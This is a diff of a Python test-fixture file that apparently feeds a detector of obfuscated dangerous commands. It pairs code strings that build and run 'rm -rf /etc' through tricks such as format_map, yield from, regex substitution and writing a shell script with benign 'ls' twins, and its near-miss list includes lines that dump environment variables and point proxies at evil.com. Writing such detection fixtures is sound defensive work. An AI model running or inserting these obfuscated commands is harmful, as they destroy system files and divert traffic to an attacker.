@@ -37,10 +37,6 @@ PAIRS = {
         "import os\nos.system('{a} -rf {b}'.format_map({'a': 'rm', 'b': '/etc'}))",
         "import os\nos.system('{a} -l {b}'.format_map({'a': 'ls', 'b': 'build'}))",
     ),
-    "re.sub": (
-        "import os, re\nos.system(re.sub('[0-9]', '', 'r1m2 -3r4f5 /6e7t8c'))",
-        "import os, re\nos.system(re.sub('[0-9]', '', 'l1s2'))",
-    ),
     "yield from": (
         "import os\ndef g(): yield from ['rm', '-rf', '/etc']\nos.system(' '.join(g()))",
         "import os\ndef g(): yield from ['ls', '-l', 'build']\nos.system(' '.join(g()))",
@@ -93,14 +89,6 @@ PAIRS = {
         "import os\nprint('rm -rf /etc', file=open('x.sh', 'w'))\nos.system('sh x.sh')",
         "import os\nprint('ls build', file=open('x.sh', 'w'))\nos.system('sh x.sh')",
     ),
-    "re.findall": (
-        "import os, re\nos.system(''.join(re.findall('[a-z /-]', 'r1m2 -3rf /e4tc')))",
-        "import os, re\nos.system(''.join(re.findall('[a-z]', 'l1s2')))",
-    ),
-    "re.split": (
-        "import os, re\nos.system(' '.join(re.split('[,;]', 'rm,-rf;/etc')))",
-        "import os, re\nos.system(' '.join(re.split('[,;]', 'ls,-l;build')))",
-    ),
 }
 
 
@@ -116,6 +104,7 @@ ORDINARY = [
     "import importlib\ndef start(name):\n    importlib.import_module(f'anyio.{name}').backend.run('x')",
 ]
 NEARBY = [
+    "import os, re\nos.system(re.sub('[0-9]', '', 'l1s2'))",
     "import os, json\njson.dump(dict(os.environ), open('env.json', 'w'))",
     "import os\nos.environ['HTTPS_PROXY'] = 'http://evil.com:8080'",
     "import urllib.request as u\nu.install_opener(u.build_opener(u.ProxyHandler({'http': 'http://evil.com:3128'})))",
